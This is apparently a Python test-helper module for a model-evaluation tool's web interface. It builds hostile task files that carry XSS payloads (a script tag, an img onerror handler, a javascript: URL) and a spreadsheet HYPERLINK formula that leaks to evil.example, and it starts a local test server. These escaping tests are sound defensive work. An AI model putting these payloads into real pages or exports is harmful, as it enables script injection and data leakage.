"""Helpers of the web tests: hostile payloads, task and models files, and a live server.

Why a module of its own and not ``conftest``: every test directory has a ``conftest.py``, so
``from conftest import ...`` imports whichever of them Python loaded last under that name; a
selection such as ``tests/web/test_browser.py tests/scale`` then fails to import. The fixtures
stay in ``conftest.py``; what tests import lives here, under a name no other folder uses.
"""

from __future__ import annotations

from pathlib import Path

import orjson
import yaml

SCRIPT = "<script>window.__pwned=1</script>"
IMG = "<img src=x onerror=window.__pwned=1>"
JS_URL = "javascript:window.__pwned=1"
PAYLOADS = [SCRIPT, IMG, JS_URL]
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
"""A sample id a spreadsheet would run as a formula if exported as is."""


def write_hostile_task(tmp: Path, n: int = 12, name: str = "hostile") -> Path:
    """A task whose answers echo script payloads, and whose categories and ids carry them."""
    data = tmp / f"{name}.jsonl"
    with data.open("wb") as fh:
        for i in range(n):
            payload = PAYLOADS[i % len(PAYLOADS)]
            if i % 2 == 0:
                prompt = f"[[echo]] {payload} [[id:{name}-{i}]]"
            else:
                prompt = f"Question {i}? [[id:{name}-{i}]] [[answer:{i * 7}]]"
            sid = f"s{i}{payload if i % 4 == 0 else ''}"
            if i == 1:
                sid = FORMULA
            fh.write(
                orjson.dumps(
                    {
                        "id": sid,
                        "prompt": prompt,
                        "reference": f"{i * 7}",
                        "category": f"cat{i % 2}{IMG if i % 3 == 0 else ''}",
                    }
                )
                + b"\n"
            )
    spec = tmp / f"{name}.yaml"
    spec.write_text(
        yaml.safe_dump(
            {
                "name": name,
                "version": 1,
                "dataset": data.name,
                "scorer": {"type": "numeric"},
                "params": {"max_tokens": 64},
            }
        )
    )
    return spec


def write_models(tmp: Path, base_url: str, names: list[str]) -> Path:
    path = tmp / "baimo.yaml"
    path.write_text(
        yaml.safe_dump(
            {
                "models": [
                    {
                        "name": n,
                        "provider": "openai-compatible",
                        "base_url": base_url,
                        "model": n,
                        "pricing": {
                            "input_per_1m": 1 + i,
                            "output_per_1m": 4 + 2 * i,
                            "currency": "CNY",
                        },
                    }
                    for i, n in enumerate(names)
                ]
            }
        )
    )
    return path


def plain_task(tmp: Path) -> Path:
    data = tmp / "plain.jsonl"
    with data.open("wb") as fh:
        for i in range(40):
            fh.write(
                orjson.dumps(
                    {
                        "id": f"p{i}",
                        "prompt": f"Q{i} [[id:plain-{i}]] [[answer:{i if i % 3 else i + 1}]]",
                        "reference": str(i),
                        "category": "even" if i % 2 else "odd",
                    }
                )
                + b"\n"
            )
    spec = tmp / "plain.yaml"
    spec.write_text(
        yaml.safe_dump(
            {
                "name": "plain",
                "version": 1,
                "dataset": data.name,
                "scorer": {"type": "numeric"},
                "dimension": "math",
                "params": {"max_tokens": 32},
            }
        )
    )
    return spec


def free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class LiveServer:
    """``baimo serve`` as a real subprocess on a loopback port."""

    def __init__(
        self, db: str, config: Path, *extra: str, env: dict[str, str] | None = None
    ) -> None:
        import os
        import subprocess
        import sys
        import time
        import urllib.request

        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "baimo",
                "serve",
                "--port",
                str(self.port),
                "--config",
                str(config),
                *extra,
            ],
            env={**os.environ, "BAIMO_DB": db, **(env or {})},
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 60
        while True:
            if self.proc.poll() is not None:
                out = self.proc.stdout.read().decode() if self.proc.stdout else ""
                raise RuntimeError(f"baimo serve exited: {out}")
            try:
                urllib.request.urlopen(self.url + "/api/v1/openapi.json", timeout=2).read()
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.2)

    def close(self) -> None:
        import subprocess

        self.proc.terminate()
        try:
            self.proc.wait(20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        if self.proc.stdout:
            self.proc.stdout.close()
